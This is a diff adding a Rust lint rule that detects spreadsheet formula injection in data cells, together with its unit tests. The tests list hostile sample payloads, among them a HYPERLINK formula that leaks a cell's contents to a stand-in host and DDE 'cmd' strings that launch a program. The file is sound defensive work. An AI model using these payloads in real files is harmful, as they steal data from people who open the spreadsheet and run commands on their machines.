@@ -1,0 +1,187 @@
+#![doc = include_str!("formula.md")]
+
+use crate::finding::{Note, Severity};
+use crate::mapping::feed::Feed;
+use crate::profile::attribute::Type;
+use crate::rule::{Check, Look, Rule, Setup};
+use crate::rules::invalid_email;
+use crate::source::traits::Traits;
+
+pub(super) const RULE: Rule = Rule {
+    name: "formula",
+    page: include_str!("formula.md"),
+    severity: Severity::Warning,
+    check: Check::Value(check),
+};
+
+/// What stands around a text in a formula.
+const QUOTE: char = '\u{22}';
+
+fn check<'a>(feed: &'a Feed, setup: &Setup<'a>) -> Look<'a> {
+    let kind = setup.attribute(feed).kind;
+    let look = Look::Cell(Box::new(move |cell| fault(cell, kind)));
+    Look::Only(Traits::MARK_FIRST, Box::new(look))
+}
+
+fn fault(cell: &str, kind: Type) -> Option<Note> {
+    // A tab or a line end before it hides a formula from people and not from spreadsheets.
+    let value = cell.trim();
+    if value.strip_prefix('\'').is_some_and(is_formula) {
+        return Some(Note::new(
+            "starts with the apostrophe that keeps a spreadsheet from running a formula: it would be part of the value",
+        ));
+    }
+    // `@example.com` is an address whose start is missing.
+    if kind == Type::Email && value.starts_with('@') || !is_formula(value) {
+        return None;
+    }
+    let note = Note::new("starts like a formula: a spreadsheet that opens the file would run it");
+    let Some(inner) = value.strip_prefix('=') else {
+        return Some(note);
+    };
+    if let Some(text) = as_text(inner) {
+        return Some(note.put_right(text));
+    }
+    let meant = kind == Type::Email && invalid_email::fault(inner).is_none();
+    Some(if meant { note.suggest(inner) } else { note })
+}
+
+/// Whether a spreadsheet would run a text. Numbers, phone numbers and lone marks are none.
+fn is_formula(value: &str) -> bool {
+    let mut letters = value.chars();
+    let (first, rest) = (letters.next().map(plain), letters.as_str());
+    match first {
+        Some('=') => rest
+            .chars()
+            .any(|letter| plain(letter) != '=' && !letter.is_whitespace()),
+        Some('@') => rest.starts_with(char::is_alphanumeric),
+        Some('+' | '-') => rest.starts_with(is_operand) && calculates(rest),
+        _ => false,
+    }
+}
+
+/// The ASCII character that a fullwidth one stands for; spreadsheets take them for the same.
+fn plain(letter: char) -> char {
+    match letter {
+        '＝' => '=',
+        '＠' => '@',
+        '＋' => '+',
+        '－' => '-',
+        other => other,
+    }
+}
+
+fn is_operand(letter: char) -> bool {
+    letter.is_alphanumeric() || matches!(letter, '(' | '+' | '-' | '=' | '@' | QUOTE)
+}
+
+/// Whether what follows a sign is more than a number or a word: `1+1`, `SUM(A1)`, `2+3+cmd|' /C calc'!A0`.
+fn calculates(rest: &str) -> bool {
+    let mut before = ' ';
+    rest.chars().any(|letter| {
+        let found = match letter {
+            '=' | '|' | '!' | '^' | '*' | '@' => true,
+            '+' => before.is_alphanumeric() || before == ')',
+            // `SUM(`, where a phone number has `49(0)`.
+            '(' => before.is_alphabetic(),
+            _ => false,
+        };
+        before = letter;
+        found
+    })
+}
+
+/// The text in `="0042"` or `=+491713920012`, by which people keep a spreadsheet from changing a number.
+fn as_text(inner: &str) -> Option<&str> {
+    let quoted = inner
+        .strip_prefix(QUOTE)
+        .and_then(|rest| rest.strip_suffix(QUOTE));
+    if let Some(text) = quoted {
+        let whole = !text.is_empty() && text.trim() == text && !text.contains(QUOTE);
+        return (whole && !is_formula(text)).then_some(text);
+    }
+    let digits = inner.strip_prefix('+')?;
+    (digits.len() >= 5 && digits.bytes().all(|byte| byte.is_ascii_digit())).then_some(inner)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::fault;
+    use crate::profile::attribute::Type;
+
+    #[test]
+    fn formulas_are_found() {
+        for cell in [
+            "=1+1",
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Anna\")",
+            "@SUM(1+1)*cmd|'/C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "+1+1",
+            "\t=1+1",
+            "\r=1+1",
+            "=1+1;2",
+            "＝1+1",
+            "＠lea",
+            "@lea",
+            "-SUM(A1)",
+            "+cmd|' /C calc'!A0",
+            "= 1",
+            "'=1+1",
+            "'@SUM(1)",
+        ] {
+            assert!(fault(cell, Type::Text).is_some(), "{cell:?}");
+        }
+    }
+
+    #[test]
+    fn numbers_words_and_marks_are_none() {
+        for cell in [
+            "+49 171 3920012",
+            "+49 (0)171-3920012",
+            "+49(0)171/3920012",
+            "+49 171 3920012 / +49 171 3920013",
+            "＋49 171 3920012",
+            "-",
+            "--",
+            "=",
+            "===",
+            "+",
+            "@",
+            "@ home",
+            "-5",
+            "-1,5",
+            "- Sales (EMEA)",
+            "-keine-",
+            "+Plus",
+            "\"=1+1\"",
+            "%0A=1+1",
+            "'s-Gravenhage",
+            "'+49 171 3920012",
+            "#1",
+            "",
+        ] {
+            assert_eq!(fault(cell, Type::Text), None, "{cell:?}");
+        }
+        assert_eq!(fault("@example.com", Type::Email), None);
+    }
+
+    #[test]
+    fn a_number_kept_as_text_is_put_right() {
+        for (cell, fix) in [
+            ("=\"0042\"", Some("0042")),
+            ("=+491713920012", Some("+491713920012")),
+            ("=\"=1\"", None),
+            ("=\"\"", None),
+            ("=\"a\"&\"b\"", None),
+            ("=+1", None),
+            ("=1+1", None),
+        ] {
+            let note = fault(cell, Type::Phone).unwrap_or_default();
+            assert!(!note.sentence.is_empty(), "{cell}");
+            assert_eq!(note.fix(), fix, "{cell}");
+        }
+        let address = fault("=fritz@example.com", Type::Email).unwrap_or_default();
+        assert_eq!(address.suggestion.as_deref(), Some("fritz@example.com"));
+        assert!(!address.sure);
+    }
+}
